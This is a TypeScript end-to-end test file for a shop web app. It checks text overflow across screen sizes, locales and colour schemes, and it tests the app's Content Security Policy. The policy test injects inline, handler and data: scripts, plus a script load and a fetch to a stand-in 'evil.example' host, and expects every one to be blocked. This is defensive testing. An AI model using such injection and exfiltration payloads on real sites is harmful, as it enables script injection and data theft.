import { everyScreen } from '../helpers/h5/every-screen'
import { visit } from '../helpers/h5/fixture'
import type { Phone } from '../helpers/h5/phone'

const shop = visit()
const soak = process.env.SOAK === '1'

const sizes = {
  small: { width: 320, height: 568 },
  phone: { width: 375, height: 667 },
  desktop: { width: 1280, height: 800 },
}
type Look = [size: keyof typeof sizes, locale: 'zh-CN' | 'en', colorScheme: 'light' | 'dark']

const few: Look[] = [
  ['small', 'en', 'light'],
  ['desktop', 'zh-CN', 'dark'],
]
const all = (['small', 'phone', 'desktop'] as const).flatMap((size): Look[] => [
  [size, 'zh-CN', 'light'],
  [size, 'en', 'dark'],
])

/** The words that reach over an edge of the window, and stand in nothing that scrolls sideways. */
const cutOff = (phone: Phone) =>
  phone.page.evaluate(() => {
    const scrolls = (element: Element | null): boolean =>
      element !== null && (/auto|scroll/.test(getComputedStyle(element).overflowX) || scrolls(element.parentElement))
    // Names for screen readers stand in boxes of one pixel.
    const unseen = (element: Element | null) => element !== null && element.getBoundingClientRect().width <= 2
    const texts = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT)
    const found: string[] = []
    for (let text = texts.nextNode(); text; text = texts.nextNode()) {
      const range = document.createRange()
      range.selectNodeContents(text)
      const { left, right, width } = range.getBoundingClientRect()
      const outside = width > 1 && (left < -1 || right > innerWidth + 1)
      if (outside && !unseen(text.parentElement) && !scrolls(text.parentElement))
        found.push(`${text.textContent} (${left} to ${right})`)
    }
    return found
  })

describe('every screen', () => {
  it.each(soak ? all : few)(
    'R1 R14 R15 R16 R17 R18 R19 R20 R21 R22 R23 R24 R25 R26 R27 fits a %s window in %s, %s, and shows itself without a fault',
    async (size, locale, colorScheme) => {
      const { token, addresses } = await everyScreen(shop)
      await shop.phone(
        async (phone) => {
          await phone.speak(locale)
          await phone.open('/')
          await phone.see(/先逛逛|Look around/)
          const problems: string[] = []
          const look = async (name: string) => {
            if (soak) await phone.shot(`${name}-${size}-${locale}-${colorScheme}`)
            problems.push(...(await cutOff(phone)).map((words) => `${name}: ${words}`))
          }
          await look('login')
          await phone.signIn(token)
          for (const [name, address] of addresses) {
            await phone.page.goto(address, { waitUntil: 'networkidle' })
            await phone.see(/\p{L}/u)
            expect(new URL(phone.page.url()).pathname).toBe(address.split('?')[0])
            await look(name)
          }
          expect(problems).toEqual([])
          expect(phone.appErrors).toEqual([])
        },
        { viewport: sizes[size], isMobile: size !== 'desktop', colorScheme },
      )
    },
  )

  it('words that are cut off are noticed', async () => {
    await shop.phone(async (phone) => {
      await phone.open('/pagesA/home/index')
      await phone.see('月兔 · 八夜')
      expect(await cutOff(phone)).toEqual([])
      await phone.page.evaluate(() => {
        const wide = document.querySelector('.taro_page > *')?.appendChild(document.createElement('div'))
        wide?.setAttribute('style', 'white-space: nowrap')
        wide?.append('a line that is much too long '.repeat(5))
      })
      expect(await cutOff(phone)).toHaveLength(1)
    })
  })
})

describe('what got into a page', () => {
  it('B17 a script that is not of the shop does not run, wherever it came from, and styles and pictures still show', async () => {
    await shop.phone(async (phone) => {
      await phone.open('/pagesA/home/index')
      await phone.see('月兔 · 八夜')
      expect(phone.appErrors).toEqual([])
      const ran = await phone.page.evaluate(async () => {
        const victim = window as unknown as { ran?: string[] }
        victim.ran = []
        const inline = document.createElement('script')
        inline.textContent = 'window.ran.push("inline")'
        const handler = document.createElement('div')
        handler.innerHTML = '<img src="x" onerror="window.ran.push(\'handler\')">'
        const data = Object.assign(document.createElement('script'), {
          src: 'data:text/javascript,window.ran.push("data")',
        })
        const outside = Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' })
        document.body.append(inline, handler, data, outside)
        // Told to nobody either: no other host hears what stands on the page.
        await fetch('https://evil.example/collect').catch(() => victim.ran?.push('fetch refused'))
        await new Promise((resolve) => setTimeout(resolve, 300))
        return victim.ran
      })
      expect(ran).toEqual(['fetch refused'])
      // Every test of the website would notice a page that needs what the policy forbids: it is told as a fault.
      expect(phone.appErrors.filter((fault) => /Content Security Policy/.test(fault)).length).toBeGreaterThanOrEqual(5)
    })
  })
})
